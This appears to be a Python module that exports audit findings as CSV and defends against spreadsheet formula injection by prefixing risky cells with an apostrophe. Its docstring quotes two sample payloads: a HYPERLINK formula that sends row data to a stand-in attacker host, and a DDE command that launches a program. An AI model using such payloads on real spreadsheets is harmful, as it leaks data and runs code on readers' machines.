"""Findings as a table for spreadsheets.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, even one that came out of a CSV
file. A customer who signs up as ``=HYPERLINK("https://evil.example/?"&B2,"Report")`` would so send the row beside it
to a stranger as soon as someone in compliance clicks, and ``=cmd|'/C calc'!A0`` would start a program. Excel skips
leading white space and control characters before it decides, and in some locales takes the full-width forms for the
same. Every such text gets an apostrophe in front, which a spreadsheet hides and which makes the cell plain text.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from audits.display import short_id, visible

COLUMNS = (
    "finding_id",
    "severity",
    "status",
    "tier",
    "period",
    "revision",
    "rule_id",
    "rule_version",
    "subject_type",
    "subject_id",
    "customer_ids",
    "customer_names",
    "accounts",
    "account_ids",
    "summary",
    "observed",
    "limits",
    "clauses",
    "first_seen",
    "policy_version",
)

_STARTS = frozenset("=+-@＝＋－＠\t\r\n")
_SKIPPED = {"Cc", "Cf", "Zs", "Zl", "Zp"}
CELL = 32_000
"""Characters: a spreadsheet cuts a cell off at 32,767. The whole list of accounts is in the JSON lines."""


def guarded(value: object) -> object:
    """The value as a cell that cannot run; numbers stay numbers."""
    if not isinstance(value, str) or not value:
        return value
    text = visible(value if len(value) <= CELL else f"{value[:CELL]} ...", keep="\n\t")
    first = next((char for char in text if unicodedata.category(char) not in _SKIPPED), "")
    return f"'{text}" if text[0] in _STARTS or first in _STARTS else text


def row_of(line: Mapping[str, Any], names: Mapping[str, str] | None = None) -> list[object]:
    """A finding (a line of ``finding.schema.json``) as the cells of :data:`COLUMNS`; lists are joined by spaces.

    ``names`` are the customers' names by id.
    """
    cells = {
        **line,
        "subject_id": short_id(line["subject_type"], line["subject_id"]),
        "customer_ids": " ".join(line["customer_ids"]),
        "customer_names": "; ".join((names or {}).get(customer, "") for customer in line["customer_ids"]),
        "accounts": len(line["account_ids"]),
        "account_ids": " ".join(line["account_ids"]),
        "clauses": " ".join(line["clauses"]),
        "observed": _pairs(line["observed"]),
        "limits": _pairs(line["limits"]),
    }
    return [guarded(cells[column]) for column in COLUMNS]


def table(lines: Iterable[Mapping[str, Any]], names: Mapping[str, str] | None = None) -> str:
    """The findings with a heading; every text in quotes (a name may hold a line end), lines end with a line feed."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow(COLUMNS)
    writer.writerows(row_of(line, names) for line in lines)
    return buffer.getvalue()


def _pairs(values: Mapping[str, Any]) -> str:
    return "; ".join(f"{name}={_plain(value)}" for name, value in values.items())


def _plain(value: Any) -> str:
    if isinstance(value, Sequence) and not isinstance(value, str):
        return " ".join(map(str, value))
    return "" if value is None else str(value)
